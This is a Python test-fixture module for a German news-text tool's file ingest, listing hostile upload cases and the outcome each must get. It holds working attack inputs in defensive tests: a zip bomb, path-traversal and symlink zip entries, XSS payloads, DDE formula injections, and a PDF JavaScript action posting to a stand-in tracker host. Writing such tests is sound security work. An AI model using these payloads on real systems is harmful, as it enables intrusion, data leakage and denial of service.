"""The catalogue of odd and hostile inputs, each generated here with the outcome it must get.

Every case runs three ways (each with a good article beside it, which must load every time):
through the engine's ingest (``test_engine.py``), through the command line's ``ingest`` and
``analyse`` (``test_cli.py``), and through the app's upload box and every page
(``test_app_catalogue.py``). A new kind of bad input is added here once and is checked all
three ways.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date

from tonlage.export import neutralise_formulas
from tonlage.ingest.run import LOADED, SKIPPED, WARNINGS

TODAY = date(2026, 11, 23)
GOOD = (
    "Gipfel in Alaska | Anna Beispiel. 15.08.2025.\n\nDie Gespräche in Anchorage endeten ohne "
    "Einigung. Beide Seiten sprachen von einem konstruktiven Austausch. Ein Waffenstillstand blieb aus."
)
BODY = (
    "Die Außenminister trafen sich am Rande der Generalversammlung in New York. Über einen "
    "Waffenstillstand wurde lange gesprochen, eine Einigung gab es nicht. Beobachter zeigten sich "
    "enttäuscht über den Verlauf der Gespräche."
)


def _zip(members: dict[str, bytes], *, symlinks: tuple[str, ...] = ()) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.compress_type = zipfile.ZIP_DEFLATED
            if name in symlinks:
                info.external_attr = 0o120777 << 16
            z.writestr(info, data)
    return buf.getvalue()


def _bomb(size: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        with z.open("zeros.txt", "w", force_zip64=True) as fh:
            chunk = b"\0" * (1 << 20)
            for _ in range(size // len(chunk)):
                fh.write(chunk)
    return buf.getvalue()


def _docx(paragraphs: list[str]) -> bytes:
    import docx

    d = docx.Document()
    d.core_properties.title = "Word-Artikel"
    for p in paragraphs:
        d.add_paragraph(p)
    buf = io.BytesIO()
    d.save(buf)
    return buf.getvalue()


def _xlsx(rows: list[list]) -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    for r in rows:
        wb.active.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def _aes_owner_locked_pdf(text: str) -> bytes:
    """AES-256, empty user password: opens without asking, like many newsroom PDFs."""
    from pypdf import PdfReader, PdfWriter

    w = PdfWriter()
    w.append(PdfReader(io.BytesIO(_pdf(text))))
    w.encrypt(user_password="", owner_password="geheim", algorithm="AES-256")
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


def _pdf(text: str | None, *, password: str | None = None) -> bytes:
    """A one-page PDF; with text=None the page has no text layer (like a scan)."""
    from pypdf import PdfWriter
    from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

    w = PdfWriter()
    page = w.add_blank_page(595, 842)
    if text is not None:
        font = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): w._add_object(font)})}
        )
        lines = " ".join(f"({line}) Tj T*" for line in text.split("\n"))
        stream = DecodedStreamObject()
        stream.set_data(f"BT /F1 11 Tf 14 TL 50 800 Td {lines} ET".encode("latin-1"))
        page[NameObject("/Contents")] = w._add_object(stream)
    if password:
        w.encrypt(password)
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


@dataclass
class Case:
    name: str
    files: list[tuple[str, bytes]]
    expect: dict[str, tuple[str, str]]  # file → (status, word that must be in the reason)
    check: Callable | None = None  # check(workspace, report) for what was read
    limits: dict = field(default_factory=dict)


def _texts(ws) -> list[str]:
    return [a.text for a in ws.raw_articles()]


def _titles(ws) -> list[str]:
    return [a.title for a in ws.raw_articles()]


long_line = ("Wort " * 1_000_000).encode()  # 5 MB in one line
CASES = [
    Case("empty file", [("leer.txt", b"")], {"leer.txt": (SKIPPED, "empty")}),
    Case("only whitespace", [("leer2.txt", b" \n\t \r\n")], {"leer2.txt": (SKIPPED, "")}),
    Case(
        "binary renamed .txt",
        [("bild.txt", b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + bytes(range(256)) * 4)],
        {"bild.txt": (SKIPPED, "binary")},
    ),
    Case(
        "UTF-16 without BOM",
        [("u16.txt", BODY.encode("utf-16-le"))],
        {"u16.txt": (WARNINGS, "no date")},
        check=lambda ws, r: any("Außenminister" in t for t in _texts(ws)),
    ),
    Case(
        "UTF-8 with BOM",
        [("bom.txt", b"\xef\xbb\xbf" + BODY.encode())],
        {"bom.txt": (WARNINGS, "no date")},
        check=lambda ws, r: all("\ufeff" not in t for t in _texts(ws)),
    ),
    Case(
        "cp1252",
        [("alt.txt", ("Müller sagt: " + BODY).encode("cp1252"))],
        {"alt.txt": (WARNINGS, "1252")},
        check=lambda ws, r: any("Müller" in t for t in _texts(ws)),
    ),
    Case(
        "mojibake",
        [("moji.txt", ("MÃ¼ller sagt: " + BODY).encode())],
        {"moji.txt": (WARNINGS, "repaired")},
        check=lambda ws, r: any("Müller sagt" in t for t in _texts(ws)),
    ),
    Case(
        "5 MB single line",
        [("lang.txt", long_line)],
        {"lang.txt": (WARNINGS, "no date")},
        check=lambda ws, r: any(len(t) > 4_000_000 for t in _texts(ws)),
    ),
    Case("too few words", [("kurz.txt", b"Nur drei Worte")], {"kurz.txt": (SKIPPED, "five words")}),
    Case(
        "NUL bytes in text", [("nul.txt", BODY.encode() + b"\0\0\0" + BODY.encode())], {"nul.txt": (SKIPPED, "binary")}
    ),
    Case(
        "CSV with ; and quotes inside fields",
        [
            (
                "liste.csv",
                (
                    'Titel;Text;Datum\n"Erster; mit Semikolon";"' + BODY + ' Er sagte: ""Nein; nie."""'
                    ';24.09.2025\n"NA";"' + BODY + ' Zweiter Text.";25.09.2025\n'
                ).encode(),
            )
        ],
        {"liste.csv": (LOADED, "2 articles")},
        check=lambda ws, r: (
            "Erster; mit Semikolon" in _titles(ws)
            and "NA" in _titles(ws)
            and any('"Nein; nie."' in t for t in _texts(ws))
        ),
    ),
    Case(
        "CSV with a ragged line",
        [("schief.csv", ('title,text\nA,"' + BODY + '"\nB,x,y,z,w\nC,"' + BODY + ' Mehr."\n').encode())],
        {"schief.csv": (WARNINGS, "line")},
    ),
    Case("CSV without a text column", [("zahlen.csv", b"a,b\n1,2\n3,4\n")], {"zahlen.csv": (SKIPPED, "column")}),
    Case(
        "CSV with formulas",
        [("formel.csv", ('title,text\n"=HYPERLINK(""http://x"")","' + BODY + '"\n').encode())],
        {"formel.csv": (WARNINGS, "")},
        check=lambda ws, r: (
            '=HYPERLINK("http://x")' in _titles(ws)
            and neutralise_formulas(r.frame().assign(x=[t for t in _titles(ws) if t.startswith("=")][0]))
            .loc[0, "x"]
            .startswith("'=")
        ),
    ),
    Case(
        "TSV in UTF-16 with BOM",
        [("tab.tsv", ("Überschrift\tInhalt\nEins\t" + BODY + "\n").encode("utf-16"))],
        {"tab.tsv": (WARNINGS, "no date")},
        check=lambda ws, r: "Eins" in _titles(ws),
    ),
    Case(
        "JSONL with one broken line",
        [
            (
                "zeilen.jsonl",
                (
                    json.dumps({"title": "A", "text": BODY})
                    + "\n{kaputt\n"
                    + json.dumps({"title": "B", "text": BODY + " B."})
                    + "\n"
                ).encode(),
            )
        ],
        {"zeilen.jsonl": (WARNINGS, "line 2")},
        check=lambda ws, r: sorted(_titles(ws))[:2] == ["A", "B"],
    ),
    Case("JSON that is not JSON", [("kaputt.json", b'{"articles": [1, 2,')], {"kaputt.json": (SKIPPED, "")}),
    Case(
        "JSON with a list under a key",
        [
            (
                "api.json",
                json.dumps(
                    {
                        "results": [
                            {
                                "headline": "Über die Lage",
                                "body": BODY,
                                "published": "2025-09-25T10:00:00Z",
                                "url": "https://example.org/a",
                            }
                        ]
                    }
                ).encode(),
            )
        ],
        {"api.json": (LOADED, "")},
        check=lambda ws, r: (
            [(a.title, a.date) for a in ws.raw_articles() if a.title == "Über die Lage"]
            == [("Über die Lage", date(2025, 9, 25))]
        ),
    ),
    Case(
        "HTML with <script>",
        [
            (
                "seite.html",
                (
                    "<html><head><title>Lage</title><meta name='author' content='Eva Muster'>"
                    "<script>alert('xss')</script></head><body><article><h1>Lage in New York</h1>"
                    + "".join(f"<p>{BODY} Absatz {i}.</p>" for i in range(4))
                    + "<script>document.write('evil')</script></article></body></html>"
                ).encode(),
            )
        ],
        {"seite.html": (WARNINGS, "")},
        check=lambda ws, r: all("alert" not in t and "evil" not in t for t in _texts(ws)),
    ),
    Case(
        "HTML without text",
        [("leer.html", b"<html><body><script>var a=1;</script></body></html>")],
        {"leer.html": (SKIPPED, "")},
    ),
    Case(
        "date in the future",
        [("zukunft.txt", ("date 2031-05-01\n\n" + BODY).encode())],
        {"zukunft.txt": (WARNINGS, "not used")},
        check=lambda ws, r: [a.date for a in ws.raw_articles() if "zukunft" in a.file] == [None],
    ),
    Case(
        "date before 1990",
        [("alt2.txt", ("Titel | Autor. 01.01.1900.\n\n" + BODY).encode())],
        {"alt2.txt": (WARNINGS, "")},
        check=lambda ws, r: [a.date for a in ws.raw_articles() if "alt2" in a.file] == [None],
    ),
    Case("unsupported format", [("brief.odt", b"PK\x03\x04whatever")], {"brief.odt": (SKIPPED, ".docx")}),
    Case(
        "Word document",
        [("bericht.docx", _docx([BODY, "Zweiter Absatz mit mehr Text über die Lage."]))],
        {"bericht.docx": (WARNINGS, "no date")},
        check=lambda ws, r: "Word-Artikel" in _titles(ws),
    ),
    Case("damaged Word document", [("kaputt.docx", b"PK\x03\x04" + os.urandom(300))], {"kaputt.docx": (SKIPPED, "")}),
    Case(
        "Excel sheet",
        [("tabelle.xlsx", _xlsx([["Titel", "Datum", "Text"], ["Aus Excel", date(2025, 9, 24), BODY]]))],
        {"tabelle.xlsx": (LOADED, "")},
        check=lambda ws, r: (
            [(a.title, a.date) for a in ws.raw_articles() if a.title == "Aus Excel"]
            == [("Aus Excel", date(2025, 9, 24))]
        ),
    ),
    Case("damaged Excel file", [("kaputt.xlsx", b"not a spreadsheet at all")], {"kaputt.xlsx": (SKIPPED, "")}),
    Case(
        "PDF with text",
        [
            (
                "text.pdf",
                _pdf(
                    "Berlin, 24.09.2025\nAm 24. September 2025 sprachen die Minister lange.\n"
                    "Eine Einigung gab es nicht, die Lage bleibt offen."
                ),
            )
        ],
        {"text.pdf": (LOADED, "")},
        check=lambda ws, r: any("Einigung gab es nicht" in t for t in _texts(ws)),
    ),
    Case("PDF without text layer", [("scan.pdf", _pdf(None))], {"scan.pdf": (SKIPPED, "text")}),
    Case(
        "encrypted PDF",
        [("geheim.pdf", _pdf("Geheimer Text mit genug Worten darin.", password="pw"))],
        {"geheim.pdf": (SKIPPED, "password")},
    ),
    Case(
        "AES-encrypted PDF with only an owner password",
        [("aes.pdf", _aes_owner_locked_pdf("Die Minister sprachen lange miteinander ohne Einigung."))],
        {"aes.pdf": (WARNINGS, "")},
        check=lambda ws, r: any("ohne Einigung" in t for t in _texts(ws)),
    ),
    Case(
        "markdown with a remote image",
        [
            (
                "notiz.md",
                (
                    "# Notiz zur Lage\n\n![](http://tracker.example/pixel.png)\n\n"
                    + BODY
                    + " [Quelle](http://example.org)."
                ).encode(),
            )
        ],
        {"notiz.md": (WARNINGS, "")},
        check=lambda ws, r: "Notiz zur Lage" in _titles(ws) and all("tracker" not in t for t in _texts(ws)),
    ),
    Case(
        "zip bomb",
        [("bombe.zip", _bomb(64 << 20))],
        {"bombe.zip": (SKIPPED, "bomb")},
        limits={"max_total_bytes": 32 << 20},
    ),
    Case(
        "zip with ../ entries and __MACOSX junk",
        [
            (
                "mix.zip",
                _zip(
                    {
                        "../../evil.txt": BODY.encode(),
                        "/etc/abs.txt": BODY.encode(),
                        "__MACOSX/._gut.txt": b"\0\x05\x16\x07",
                        "ordner/gut.txt": GOOD.encode(),
                        ".DS_Store": b"\0\0\0\1Bud1",
                    }
                ),
            )
        ],
        {
            "mix.zip/../../evil.txt": (SKIPPED, "unsafe"),
            "mix.zip/ordner/gut.txt": (SKIPPED, "Already"),
            "mix.zip/__MACOSX/._gut.txt": (SKIPPED, "system file"),
        },
    ),
    Case(
        "zip with a link",
        [
            (
                "link.zip",
                _zip({"link.txt": b"/etc/passwd", "echt.txt": (BODY + " Echt.").encode()}, symlinks=("link.txt",)),
            )
        ],
        {"link.zip/link.txt": (SKIPPED, ""), "link.zip/echt.txt": (WARNINGS, "no date")},
    ),
    Case(
        "nested zip",
        [("aussen.zip", _zip({"innen.zip": _zip({"tief/artikel.txt": (BODY + " Tief.").encode()})}))],
        {"aussen.zip/innen.zip/tief/artikel.txt": (WARNINGS, "no date")},
    ),
    Case("damaged zip", [("kaputt.zip", _zip({"a.txt": BODY.encode()})[:40])], {"kaputt.zip": (SKIPPED, "")}),
    Case(
        "too many files in a zip",
        [("viele.zip", _zip({f"n{i}.txt": f"{BODY} {i}".encode() for i in range(30)}))],
        {"viele.zip": (SKIPPED, "")},
        limits={"max_archive_members": 10},
    ),
    Case(
        "file over the size limit",
        [("gross.txt", BODY.encode() * 50)],
        {"gross.txt": (SKIPPED, "limit")},
        limits={"max_file_bytes": 1000},
    ),
    Case(
        "zip over the upload limit",
        [("riesig.zip", _zip({f"n{i}.txt": os.urandom(2000) for i in range(5)}))],
        {"riesig.zip": (SKIPPED, "archive is larger")},
        limits={"max_upload_bytes": 5000},
    ),
    Case(
        "duplicate files in one upload",
        [("eins.txt", (BODY + " Doppelt.").encode()), ("zwei.txt", (BODY + " Doppelt.").encode())],
        {"eins.txt": (WARNINGS, ""), "zwei.txt": (SKIPPED, "Already")},
    ),
    Case(
        "path and markup in an upload name",
        [("../../etc/<img src=x onerror=alert(1)>.txt", (BODY + " Name.").encode())],
        {"<img src=x onerror=alert(1)>.txt": (WARNINGS, "")},
    ),
    Case(
        "English article",
        [
            (
                "english.txt",
                b"The foreign ministers met in New York on Tuesday. They failed to "
                b"agree on a ceasefire, and observers were disappointed by the talks.",
            )
        ],
        {"english.txt": (WARNINGS, "no date")},
    ),
]


# --- added with the hardening of untrusted text (each class the earlier probe did not try) ----------
def _csv_rows(rows: list[list[str]]) -> bytes:
    import csv

    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    return buf.getvalue().encode()


def _pdf_with_javascript(text: str) -> bytes:
    """A PDF whose opening runs JavaScript in a viewer that allows it (we only read its text)."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.actions import JavaScript

    w = PdfWriter()
    w.append(PdfReader(io.BytesIO(_pdf(text))))
    w.add_open_action(JavaScript("app.alert('pwned'); this.submitForm('http://tracker.example/');"))
    buf = io.BytesIO()
    w.write(buf)
    return buf.getvalue()


FORMULAS = (
    '=HYPERLINK("http://tracker.example","klick")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
ESC = "\x1b[2J\x1b]0;pwned\x07"
BIDI_TITLE = "Gipfel \u202etxt.exe\u202c"
HOMOGLYPH = "Р\u0443tin trifft Trump"  # Cyrillic Р and у inside a Latin word


def _no_control(ws) -> bool:
    import re

    return all(
        not re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", a.title + a.author + a.source)
        for a in ws.raw_articles()
    )


def _event_labels(ws) -> list[str]:
    from tonlage.events import EventBook

    return EventBook.for_workspace(ws).table()["label"].tolist()


NEW_CASES = [
    Case(
        "homoglyph title",
        [("homoglyph.txt", (f"{HOMOGLYPH} | Eva Muster. 15.08.2025.\n\n" + BODY).encode())],
        {"homoglyph.txt": (WARNINGS, "cyrillic")},
        check=lambda ws, r: HOMOGLYPH in _titles(ws),
    ),
    Case(
        "bidi override in a title",
        [("bidi.txt", (f"{BIDI_TITLE} | Eva Muster. 15.08.2025.\n\n" + BODY).encode())],
        {"bidi.txt": (WARNINGS, "direction")},
        check=lambda ws, r: "Gipfel txt.exe" in _titles(ws) and _no_control(ws),
    ),
    Case(
        "terminal escapes in a title and a file name",
        [(f"flucht{ESC}.txt", (f"Titel {ESC} | Eva {ESC}. 15.08.2025.\n\n" + BODY).encode())],
        {"flucht[2J]0;pwned.txt": (WARNINGS, "control characters")},
        check=lambda ws, r: _no_control(ws),
    ),
    Case(
        "spreadsheet formulas in every column of a CSV",
        [
            (
                "formeln.csv",
                _csv_rows(
                    [["title", "author", "source", "text"]]
                    + [[f, f, f, f"{BODY} Formel {i}."] for i, f in enumerate(FORMULAS)]
                ),
            )
        ],
        {"formeln.csv": (WARNINGS, "4 articles")},
        check=lambda ws, r: set(FORMULAS) <= set(_titles(ws)),
    ),
    Case(
        "a very wide table (3,000 columns)",
        [
            (
                "breit.csv",
                _csv_rows([["title", "text"] + [f"spalte{i}" for i in range(3000)], ["Breit", BODY] + ["x"] * 3000]),
            )
        ],
        {"breit.csv": (WARNINGS, "1 article")},
        check=lambda ws, r: "Breit" in _titles(ws),
    ),
    Case(
        "a PDF with JavaScript actions",
        [
            (
                "skript.pdf",
                _pdf_with_javascript(
                    "Am 24. September 2025 sprachen die Minister lange.\n"
                    "Eine Einigung gab es nicht, die Lage bleibt offen."
                ),
            )
        ],
        {"skript.pdf": (WARNINGS, "no date")},
        check=lambda ws, r: (
            any("Einigung gab es nicht" in t for t in _texts(ws)) and all("pwned" not in t for t in _texts(ws))
        ),
    ),
    Case(
        "HTML with <base> and <meta refresh>",
        [
            (
                "umleitung.html",
                (
                    "<html><head><base href='http://tracker.example/'>"
                    "<meta http-equiv='refresh' content='0;url=http://tracker.example/go'>"
                    "<title>Umleitung</title></head><body><article><h1>Seite mit Umleitung</h1>"
                    + "".join(f"<p>{BODY} Absatz {i}. <a href='rel{i}'>mehr</a></p>" for i in range(3))
                    + "</article></body></html>"
                ).encode(),
            )
        ],
        {"umleitung.html": (WARNINGS, "no date")},
        check=lambda ws, r: "Seite mit Umleitung" in _titles(ws) and all("refresh" not in t for t in _texts(ws)),
    ),
    Case(
        "SVG with a script inside HTML",
        [
            (
                "grafik.html",
                (
                    "<html><body><article><h1>Mit Grafik</h1>" + f"<p>{BODY}</p>"
                    "<svg><script>alert('svg')</script><text>SVGGEHEIM</text>"
                    "<foreignObject><p>FREMDOBJEKT</p></foreignObject></svg></article></body></html>"
                ).encode(),
            )
        ],
        {"grafik.html": (WARNINGS, "")},
        check=lambda ws, r: all("alert" not in t and "SVGGEHEIM" not in t for t in _texts(ws)),
    ),
    Case(
        "data: URIs in HTML",
        [
            (
                "daten.html",
                (
                    "<html><body><article><h1>Mit Daten</h1>" + f"<p>{BODY}</p>"
                    "<img src='data:image/png;base64," + "iVBORw0KGgo" * 300 + "'>"
                    "<a href='data:text/html,<script>alert(1)</script>'>Quelle</a></article></body></html>"
                ).encode(),
            )
        ],
        {"daten.html": (WARNINGS, "")},
        check=lambda ws, r: all("base64" not in t and "<script" not in t for t in _texts(ws)),
    ),
    Case(
        "a 300,000-letter word",
        [("wort.txt", (BODY + " " + "Donaudampfschiff" * 20_000 + " " + BODY).encode())],
        {"wort.txt": (WARNINGS, "no date")},
        check=lambda ws, r: any(len(t) > 300_000 for t in _texts(ws)),
    ),
    Case(
        "10,000 sentences in one line",
        [("zeile.txt", " ".join(f"Das ist Satz Nummer {i} über die Lage." for i in range(10_000)).encode())],
        {"zeile.txt": (WARNINGS, "no date")},
        check=lambda ws, r: any(t.count(".") >= 10_000 for t in _texts(ws)),
    ),
    Case(
        "a Markdown image and link in the file name",
        [("![pixel](http:tracker.example).txt", (BODY + " Name mit Bild.").encode())],
        {"![pixel](http:tracker.example).txt": (WARNINGS, "no date")},
    ),
    Case(
        "a note with a remote image in metadata.csv",
        [
            ("notiz.txt", (BODY + " Mit Notiz.").encode()),
            (
                "metadata.csv",
                _csv_rows(
                    [
                        ["file", "title", "author", "date", "genre", "note"],
                        ["notiz.txt", "Notiz", "", "", "", "![n](http://tracker.example/n.png)"],
                    ]
                ),
            ),
        ],
        {"notiz.txt": (WARNINGS, ""), "metadata.csv": (LOADED, "applied")},
        check=lambda ws, r: (
            [a.notes for a in ws.raw_articles() if a.title == "Notiz"] == [["![n](http://tracker.example/n.png)"]]
        ),
    ),
    Case(
        "events with formulas (events.csv in an upload)",
        [("events.csv", _csv_rows([["date", "label", "description"], ["2025-08-15", FORMULAS[0], FORMULAS[1]]]))],
        {"events.csv": (LOADED, "event markers")},
        check=lambda ws, r: _event_labels(ws) == [FORMULAS[0]],
    ),
]
CASES = CASES + NEW_CASES
